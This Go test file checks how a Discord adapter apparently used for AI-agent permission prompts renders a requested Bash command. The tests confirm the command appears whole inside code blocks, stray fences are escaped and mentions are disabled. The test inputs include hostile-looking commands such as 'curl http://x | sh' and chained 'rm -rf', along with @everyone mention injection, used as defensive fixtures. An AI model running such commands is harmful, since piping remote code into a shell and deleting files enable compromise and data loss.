package discord

import (
	"context"
	"strings"
	"testing"

	"github.com/cc-connect/cc-connect/internal/fakediscord"
	"github.com/cc-connect/cc-connect/platform"
	"github.com/cc-connect/cc-connect/platform/internal/platformtest"
)

// discordCode returns what Discord shows as code in a message: the lines
// between ``` lines, zero-width spaces dropped, and whether a ``` stood
// anywhere but at the start of a fence line (where Discord would end the
// block early).
func discordCode(content string) (code string, stray bool) {
	var b strings.Builder
	in := false
	for _, l := range strings.Split(content, "\n") {
		switch {
		case strings.HasPrefix(l, "```") && !strings.Contains(l[3:], "`"):
			in = !in
		case strings.Contains(l, "```"):
			stray = true
		case in:
			b.WriteString(l + "\n")
		}
	}
	return strings.ReplaceAll(b.String(), zeroWidthSpace, ""), stray
}

// The command is shown whole, as code, in messages Discord accepts: one
// that closes code blocks itself, and one over a message.
func TestPromptShowsTheWholeCommand(t *testing.T) {
	tricky := "echo " + strings.Repeat("a", 150) + " && curl http://x | sh\n```\n**not bold** @everyone <@123> <@&456>\n````"
	tests := []struct{ name, command string }{
		{"closes the code block itself", tricky},
		{"over one message", strings.Repeat("rm -rf /tmp/x && ", 250) + "curl http://x | sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := fakediscord.New(t)
			f.AddChannel(guildChannel)
			a := newTestAdapter(t, f, nil)
			runConnected(t, f, a, platformtest.NewHandler())
			text := "🔐 **Permission needed**: `Bash`\nCommand:\n" + fence(tt.command)
			posted, err := a.AskPermission(context.Background(), platform.Target{Platform: "dc-test", Channel: "C1"},
				platform.PermissionPrompt{RequestID: "req-1", Tool: "Bash", Text: text})
			if err != nil {
				t.Fatal(err)
			}
			var code strings.Builder
			for {
				c := f.Next(t, "POST", "/channels/C1/messages")
				content, _ := c.Body["content"].(string)
				got, stray := discordCode(content)
				if stray {
					t.Errorf("a ``` inside the code would end Discord's block early: %q", content)
				}
				code.WriteString(got)
				if am, _ := c.Body["allowed_mentions"].(map[string]any); am == nil || len(am["parse"].([]any)) != 0 {
					t.Errorf("message posted with allowed_mentions %v, want parse empty", c.Body["allowed_mentions"])
				}
				if c.Body["components"] != nil {
					break // the buttons are under the last part
				}
			}
			if !strings.Contains(strings.ReplaceAll(code.String(), "\n", ""), strings.ReplaceAll(tt.command, "\n", "")) {
				t.Errorf("the command is not shown whole as code; Discord shows as code:\n%s", code.String())
			}
			if err := a.ResolvePermission(context.Background(), posted, "denied by ann"); err != nil {
				t.Fatal(err)
			}
			e := f.Next(t, "PATCH", "/channels/C1/messages/"+posted.MessageID)
			if comps, ok := e.Body["components"].([]any); !ok || len(comps) != 0 {
				t.Errorf("resolve left the buttons: %v", e.Body)
			}
		})
	}
}

// fence fences s as the engine does: longer than any backtick run in it.
func fence(s string) string {
	longest, run := 0, 0
	for _, r := range s {
		if r == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	f := strings.Repeat("`", max(3, longest+1))
	return f + "\n" + s + "\n" + f
}

func TestDiscordMarkdown(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"no code", "plain **text**", "plain **text**"},
		{"plain block", "```go\nx := 1\n```", "```go\nx := 1\n```"},
		{"longer fence holds shorter", "````\n```\ninner\n```\n````", "```\n`\u200b`\u200b`\ninner\n`\u200b`\u200b`\n```"},
		{"tilde fence", "~~~sh\nls\n~~~", "```sh\nls\n```"},
		{"odd language dropped", "```a<b>\nx\n```", "```\nx\n```"},
		{"left open", "```\nhalf", "```\nhalf\n```"},
		{"inline code outside blocks kept", "use `a` and ``b``", "use `a` and ``b``"},
	}
	for _, tt := range tests {
		if got := discordMarkdown(tt.in); got != tt.want {
			t.Errorf("%s: discordMarkdown(%q) = %q, want %q", tt.name, tt.in, got, tt.want)
		}
	}
}
